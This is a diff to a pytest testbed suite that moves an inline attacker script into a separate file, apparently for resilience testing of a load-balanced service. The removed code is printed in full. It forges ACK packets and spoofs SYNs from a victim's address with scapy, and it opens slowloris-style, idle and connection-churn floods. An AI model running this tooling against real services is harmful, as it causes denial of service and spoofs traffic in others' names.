@@ -23,6 +23,8 @@ import time
 
 import pytest
 
+from common.paths import REPO_ROOT
+
 from target_rig import running, two_cluster_service
 
 pytestmark = [pytest.mark.testbed, pytest.mark.slow]
@@ -76,135 +78,8 @@ with open(spec["result"], "w") as f:
     json.dump({"ok": ok, "failed": failed, "corrupt": corrupt}, f)
 """
 
-# The attacker.  argv[1]: a JSON spec; prints JSON.  Runs until `stop` exists
-# where it holds connections open, writing `progress` as it goes.
-ATTACK = r"""
-import json, os, random, socket, sys, threading, time
-spec = json.loads(sys.argv[1])
-op = spec["op"]
-
-def stopped():
-    return os.path.exists(spec["stop"])
-
-def progress(n):
-    with open(spec["progress"] + ".tmp", "w") as f:
-        f.write(str(n))
-    os.replace(spec["progress"] + ".tmp", spec["progress"])
-
-def connect():
-    s = socket.create_connection((spec["host"], spec["port"]), timeout=10)
-    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    return s
-
-if op in ("forged_ack", "spoofed_syn"):
-    from scapy.all import IP, TCP, Raw, send
-    conf_pkts = []
-    if op == "forged_ack":
-        req = b"GET /obj/ HTTP/1.1\r\nHost: x\r\n\r\n"
-        for _ in range(spec["count"]):
-            conf_pkts.append(IP(dst=spec["host"]) /
-                             TCP(sport=random.randint(20000, 60000), dport=spec["port"],
-                                 flags="PA", seq=random.getrandbits(32),
-                                 ack=random.getrandbits(32)) / Raw(req))
-    else:
-        for dst in spec["backends"]:
-            for _ in range(spec["count"]):
-                # A plain SYN (ack 0) and a fused one (no ACK flag, ack != 0),
-                # from the victim's address and port, to the service port.
-                conf_pkts.append(IP(src=spec["victim_ip"], dst=dst) /
-                                 TCP(sport=spec["victim_port"], dport=spec["port"], flags="S",
-                                     seq=random.getrandbits(32), ack=0))
-                conf_pkts.append(IP(src=spec["victim_ip"], dst=dst) /
-                                 TCP(sport=spec["victim_port"], dport=spec["port"], flags="S",
-                                     seq=random.getrandbits(32),
-                                     ack=random.getrandbits(32) | 1))
-    send(conf_pkts, verbose=False)
-    print(json.dumps({"sent": len(conf_pkts)}))
-elif op == "tiny":
-    # Connections that send a header one byte a segment and never finish it.
-    sent = [0]
-    lock = threading.Lock()
-    def one(k):
-        s = connect()
-        head = b"GET /obj/ HTTP/1.1\r\nHost: x\r\nX-Slow: "
-        s.sendall(head)
-        while not stopped():
-            try:
-                s.send(b"a")
-            except OSError:
-                break
-            with lock:
-                sent[0] += 1
-            time.sleep(0.001)
-        s.close()
-    ts = [threading.Thread(target=one, args=(k,)) for k in range(spec["conns"])]
-    for t in ts:
-        t.start()
-    while not stopped():
-        progress(sent[0])
-        time.sleep(0.05)
-    for t in ts:
-        t.join()
-    print(json.dumps({"bytes": sent[0]}))
-elif op == "idle":
-    # Completed handshakes that never send a request.
-    socks, refused = [], 0
-    for _ in range(spec["conns"]):
-        try:
-            socks.append(connect())
-        except OSError:
-            refused += 1
-        progress(len(socks))
-    while not stopped():
-        time.sleep(0.05)
-    print(json.dumps({"opened": len(socks), "refused": refused}))
-elif op == "churn":
-    # Kept-alive connections, one request each, all left open: each holds an
-    # entry in a back-end agent's map.  Sixteen at a time: a refused one
-    # waits out the front-end's SYN timeouts.
-    socks, done = [], {"answered": 0, "failed": 0}
-    lock = threading.Lock()
-    req = ("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % spec["path"]).encode()
-    def worker(n):
-        for _ in range(n):
-            ok = False
-            try:
-                s = connect()
-                s.settimeout(30)
-                s.sendall(req)
-                ok = s.recv(65536).startswith(b"HTTP/1.1 200")
-                with lock:
-                    socks.append(s)
-            except OSError:
-                pass
-            with lock:
-                done["answered" if ok else "failed"] += 1
-                progress(done["answered"] + done["failed"])
-    ts = [threading.Thread(target=worker, args=(spec["conns"] // 16,)) for _ in range(16)]
-    for t in ts:
-        t.start()
-    for t in ts:
-        t.join()
-    while not stopped():
-        time.sleep(0.05)
-    print(json.dumps(done))
-elif op == "request":
-    s = connect()
-    with open(spec["payload_file"]) as f:
-        s.sendall(bytes.fromhex(f.read()))
-    s.settimeout(20)
-    buf = b""
-    try:
-        while b"\r\n\r\n" not in buf:
-            b = s.recv(65536)
-            if not b:
-                break
-            buf += b
-        status = int(buf.split(b" ", 2)[1]) if buf else None
-    except (OSError, IndexError, ValueError) as e:
-        status = repr(e)
-    print(json.dumps({"status": status}))
-"""
+# The attacker (its ops are described in the script).
+ATTACK = REPO_ROOT / "workloads" / "attack" / "attack.py"
 
 
 def service_for(tb):
@@ -312,7 +187,7 @@ class Attack:
         self.files = {k: f"{w}.{k}" for k in ("py", "stop", "progress")}
         self.spec = {"host": str(tb.vip), "port": tb.vip_port, **spec,
                      "stop": self.files["stop"], "progress": self.files["progress"]}
-        self.host.put_text(ATTACK, self.files["py"])
+        self.host.put(ATTACK, self.files["py"])
         self.cmd = f"{self.host.python} {self.files['py']} {shlex.quote(json.dumps(self.spec))}"
 
     def payload(self, data: bytes) -> "Attack":
